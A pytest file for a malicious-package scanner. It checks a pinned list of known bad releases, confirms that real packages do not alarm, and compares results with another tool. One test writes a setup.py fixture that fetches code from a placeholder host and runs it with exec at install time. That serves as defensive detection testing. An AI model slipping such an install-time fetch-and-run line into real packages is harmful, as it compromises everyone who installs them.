"""The race of real releases: its list is whole, and no release that is here alarms in `make test`."""

from collections.abc import Callable
from pathlib import Path

import pytest

from races import malicious_packages

REAL = ("alt_profanity_check", "fairlearn", "modelscan", "presidio_analyzer", "silero_vad")


def test_the_list_pins_enough_releases_and_none_twice():
    releases = malicious_packages.read()
    assert len(releases) >= 300
    assert len({release.file for release in releases}) == len(releases)
    assert all(len(release.sha256) == 64 and release.version for release in releases)


def test_what_is_known_to_be_so_is_on_the_list():
    named = {release.name for release in malicious_packages.read()}
    assert {name for name, _ in malicious_packages.TRUE} <= named


@pytest.mark.parametrize("name", REAL)
def test_no_real_release_here_alarms(real: Callable[[str], Path], name: str):
    path = real(name)
    assert list(malicious_packages.alarms(path)) == []


def test_a_release_that_fetches_and_runs_alarms(tmp_path: Path):
    (tmp_path / "setup.py").write_text(
        "import urllib.request\nexec(urllib.request.urlopen('http://x.invalid').read())\n"
    )
    assert {alarm.check for alarm in malicious_packages.alarms(tmp_path)} >= {
        "no_code_at_install",
        "no_harmful_acts",
    }


def test_a_file_with_other_bytes_is_not_the_release(tmp_path: Path):
    (tmp_path / "a.whl").write_bytes(b"other")
    release = malicious_packages.Release("a", "1", "a.whl", "0" * 64)
    assert malicious_packages.on_shelf(release, [tmp_path]) is None


def test_every_example_that_must_fail_counts_and_none_that_must_pass(tmp_path: Path):
    failing = malicious_packages.examples("failed")
    assert len(failing) >= 150
    assert malicious_packages.ours(failing[:3]).alarmed == 3
    assert malicious_packages.ours(malicious_packages.examples("passed")[:3]).alarmed == 0


def test_the_other_program_is_asked_for_each_and_its_verdict_is_read(tmp_path: Path):
    program = tmp_path / "other"
    program.write_text("""#!/bin/sh
case "$3" in *bad*) label=high_risk;; *) label=no_risks_detected;; esac
echo "{\\"risk_score\\": {\\"label\\": \\"$label\\"}}"
""")
    program.chmod(0o755)
    score = malicious_packages.theirs(str(program), [tmp_path / "bad", tmp_path / "good"], float("inf"))
    assert (score.asked, score.alarmed) == (2, 1)
    assert malicious_packages.theirs(str(program), [tmp_path], 0.0).asked == 0
